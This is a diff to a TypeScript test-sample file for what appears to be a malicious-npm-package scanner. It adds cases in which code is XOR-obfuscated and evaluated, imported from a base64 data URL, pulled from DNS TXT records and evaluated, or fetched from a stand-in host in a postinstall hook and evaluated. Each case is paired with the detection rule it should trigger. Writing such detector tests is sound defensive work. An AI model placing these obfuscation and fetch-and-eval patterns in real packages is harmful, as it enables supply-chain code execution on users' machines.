@@ -1,16 +1,8 @@
 import { gzipSync } from 'node:zlib';
 import type { Samples } from '../contract.ts';
-import { hide, manifest, quiet } from '../samples-kit.ts';
+import { hide, imported, installed, quiet } from '../samples-kit.ts';
 
 const PAYLOAD = "require('child_process').exec('id > /dev/null')";
-
-function imported(code: string, more: Readonly<Record<string, string>> = {}): Record<string, string> {
-  return { 'package.json': manifest({ main: 'index.js' }), 'index.js': code, ...more };
-}
-
-function installed(code: string): Record<string, string> {
-  return { 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code };
-}
 
 function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number, file = 'index.js') {
   return { rule, file, line, severity };
@@ -101,6 +93,30 @@ export const samples: Samples = {
         `const cp = require(Buffer.from('${hide('child_process')}', 'base64').toString());\ncp.exec('id');\n`,
       ),
       expected: [at('hidden-module', 'high', 1)],
+    },
+    {
+      name: 'a key and a loop',
+      files: imported(
+        `const b = [${Array.from(PAYLOAD, (c) => c.charCodeAt(0) ^ 7).join(',')}];\nlet s = '';\nfor (const n of b) s += String.fromCharCode(n ^ 7);\neval(s);\n`,
+      ),
+      expected: [at('decoded-code', 'high', 4)],
+    },
+    {
+      name: 'an address that is code',
+      files: imported(`import('data:text/javascript;base64,${hide(PAYLOAD)}');\n`),
+      expected: [at('decoded-code', 'high', 1)],
+    },
+    {
+      name: 'the answer of a name server',
+      files: imported(
+        `require('dns').resolveTxt('a.weir.test', (error, rows) => {\n  eval(rows.flat().join(''));\n});\n`,
+      ),
+      expected: [at('remote-code', 'high', 2)],
+    },
+    {
+      name: 'eval itself as the callback',
+      files: installed(`fetch('https://a.weir.test/p').then((r) => r.text()).then(eval);\n`),
+      expected: [at('remote-code', 'high', 1, 'setup.js')],
     },
     {
       name: 'the answer of a server',
